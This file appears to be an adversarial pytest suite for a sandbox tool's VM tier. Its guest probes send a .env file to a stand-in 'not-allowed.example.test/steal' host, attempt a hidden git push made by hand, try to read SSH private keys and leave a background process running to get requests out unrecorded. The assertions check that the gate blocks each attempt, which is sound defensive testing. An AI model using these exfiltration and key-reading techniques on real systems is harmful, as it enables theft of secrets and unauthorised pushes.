"""The VM tier (backend: vm) under the same policy as the default tier, attacked from inside
the guest: the secret canaries are not there to read (the project's denied files are never put
into the guest, the host's home is not in it at all), and the guest's only network, the agent
port's channel to the same gate, judges each request as the default tier's: a host not allowed
is refused, a hidden `git push` (a POST to git-receive-pack made by hand) is refused by the
push gate, and the servers see neither; and a process a step leaves running reaches nothing
between steps. Real QEMU (TCG here); one boot per attacker (~20 s).
"""

import json
import subprocess
import time

import pytest

from conftest import CANARY
from gatekit import Answerer, hostport, netproject, servers

pytestmark = pytest.mark.skipif(subprocess.run(["sh", "-c", "command -v qemu-system-x86_64"],
                                               capture_output=True).returncode != 0,
                                reason="QEMU is not installed (dev/run test installs it)")

GUEST = r'''
import json, os, sys, urllib.request, urllib.error
out = {}
def go(name, url, data=None):
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data=data), timeout=60) as r:
            out[name] = [r.status, r.read().decode(errors="replace")[:200]]
    except urllib.error.HTTPError as e:
        out[name] = [e.code, e.read().decode(errors="replace")[:200]]
    except Exception as e:
        out[name] = ["error", repr(e)[:200]]
go("allowed", sys.argv[1])
go("denied_host", "https://not-allowed.example.test/steal?" + open(".env").read() if os.path.exists(".env") else "https://not-allowed.example.test/steal")
# a hidden push: a ref update sent by hand, no git involved (what the default tier's push gate
# refuses from curl, tests/adversarial/test_gate_paths.py)
ref = ("1" * 40 + " " + "2" * 40 + " refs/heads/main\0report-status\n").encode()
go("push", sys.argv[2], b"%04x" % (len(ref) + 4) + ref + b"0000PACK")
for p in (".env", os.environ.get("HOST_HOME", "/nonexistent") + "/.ssh/id_ed25519", "/root/.ssh/id_ed25519"):
    try:
        out["read " + p] = open(p).read()
    except OSError as e:
        out["read " + p] = type(e).__name__
print("RESULT " + json.dumps(out))
'''


def test_vm_guest_gets_no_secret_and_the_gate_refuses_what_it_refuses_by_default(attacker, shared_image):
    with servers() as (git, stub):
        netproject(attacker, git, stub, tail="backend: vm\nvm: { memory: 256MiB }\n")
        attacker.env["ENVGIT_VM_CACHE"] = shared_image
        (attacker.root / ".env").write_text(f"TOKEN={CANARY}\n")
        (attacker.root / "probe.py").write_text(GUEST)
        attacker.own(attacker.root / ".env", attacker.root / "probe.py")
        allowed = f"https://{hostport(stub, 'stub.example.test')}/allowed"
        push = f"https://{hostport(git)}/repo.git/git-receive-pack"
        r = attacker.envgit("run", "--", "env", f"HOST_HOME={attacker.home}", "python3", "probe.py",
                            allowed, push, timeout=400)
        assert r.returncode == 0, r.stdout + r.stderr
        line = next(ln for ln in r.stdout.splitlines() if ln.startswith("RESULT "))
        got = json.loads(line[len("RESULT "):])
        assert CANARY not in r.stdout + r.stderr
        assert got["allowed"][0] == 200, got                   # the gate is the way out, and works
        assert got["denied_host"][0] != 200, got
        # refused in git's own protocol (report-status "ng", HTTP 200) by the push gate
        assert got["push"][0] != 200 or "preset:default/git-push" in got["push"][1], got
        assert all(v == "FileNotFoundError" for k, v in got.items() if k.startswith("read ")), got
        # the oracle: what reached the servers
        assert any(q["path"] == "/allowed" for q in stub.requests)
        assert not any("receive-pack" in q["path"] and q["method"] == "POST" for q in git.requests)
        assert not any("steal" in q["path"] for q in stub.requests)
        # recorded on the step, as in the default tier
        step = json.loads(attacker.envgit("show", "last", "--json", check=True).stdout)
        decisions = {(q.get("host"), q.get("decision")) for q in step["requests"]}
        assert ("stub.example.test", "allow") in decisions, step["requests"]
        assert any(h == "git.example.test" and d == "deny" for h, d in decisions), step["requests"]


ASKED = r'''
import sys, urllib.request, urllib.error
ref = ("1" * 40 + " " + "2" * 40 + " refs/heads/main\0report-status\n").encode()
try:
    body = b"%04x" % (len(ref) + 4) + ref + b"0000PACK"
    with urllib.request.urlopen(urllib.request.Request(sys.argv[1], data=body), timeout=120) as r:
        print("STATUS", r.status, r.read()[:300])
except urllib.error.HTTPError as e:
    print("STATUS", e.code)
'''


def test_vm_a_push_asked_about_is_said_on_the_step_terminal_and_denied_by_the_answer(attacker, shared_image):
    """An `ask` rule: the question is said on the VM step's stderr with how to answer, a person
    denies it from another terminal, and the push never reaches the server."""
    with servers() as (git, stub):
        netproject(attacker, git, stub, tail="backend: vm\nvm: { memory: 256MiB }\n"
                   "irreversible:\n  - rule: git-push\n    action: ask\n")
        attacker.env["ENVGIT_VM_CACHE"] = shared_image
        (attacker.root / "asked.py").write_text(ASKED)
        attacker.own(attacker.root / "asked.py")
        with Answerer(attacker, lambda q: "deny") as person:
            r = attacker.envgit("run", "--", "python3", "asked.py",
                                f"https://{hostport(git)}/repo.git/git-receive-pack", timeout=400)
        assert person.seen, r.stderr
        assert "asks:" in r.stderr and "envgit approve" in r.stderr, r.stderr
        assert not any("receive-pack" in q["path"] and q["method"] == "POST" for q in git.requests)


# --- a process left running, between steps --------------------------------------------------

LATE = r'''
import sys, time, urllib.request
time.sleep(25)                      # step 1 has ended by now
try:
    with urllib.request.urlopen(sys.argv[1], timeout=60) as r:
        res = f"{r.status}"
except Exception as e:
    res = repr(e)[:200]
open("/tmp/late.txt", "w").write(res)
'''


def test_vm_a_process_left_running_reaches_nothing_unrecorded_between_steps(attacker, shared_image):
    """The red team's case (round 15): a process a VM step starts keeps running after the step
    (the tier's point). The guest's only network is its proxy port, each connection a channel
    to the gate; the promise is that every request is judged and recorded on a step, as in the
    default tier (whose step's processes end with it). Attack: a process left running by step 1
    makes a request after step 1 has ended, while no step runs. The oracle: the server's
    record, and the journal's steps. HELD when written: the gate answers 407 (step 1's
    credentials closed with it), nothing reaches the server."""
    with servers() as (git, stub):
        netproject(attacker, git, stub, tail="backend: vm\nvm: { memory: 256MiB, cpus: 1 }\n")
        attacker.env["ENVGIT_VM_CACHE"] = shared_image
        (attacker.root / "late.py").write_text(LATE)
        attacker.own(attacker.root / "late.py")
        url = f"https://{hostport(stub, 'stub.example.test')}/late-between-steps"
        r = attacker.envgit("run", "--", "sh", "-c",
                            f"python3 late.py {url} </dev/null >/dev/null 2>&1 & echo started",
                            timeout=400)
        assert "started" in r.stdout, r.stdout + r.stderr
        time.sleep(60)                  # no step runs: the process's request is made now
        r = attacker.envgit("run", "--", "cat", "/tmp/late.txt", timeout=200)
        reached = [q for q in stub.requests if "late-between-steps" in q["path"]]
        recorded = []
        for n in (1, 2):
            s = attacker.envgit("show", str(n), "--json")
            if s.returncode == 0:
                recorded += [q for q in json.loads(s.stdout).get("requests") or []
                             if "late-between-steps" in json.dumps(q)]
        assert not reached or recorded, (
            f"a request made between VM steps reached the server unrecorded on any step: "
            f"guest saw {r.stdout!r}; server saw {reached}")
        assert not reached, (f"a request made while no step ran reached the server (recorded on "
                             f"{recorded}); guest saw {r.stdout!r}")
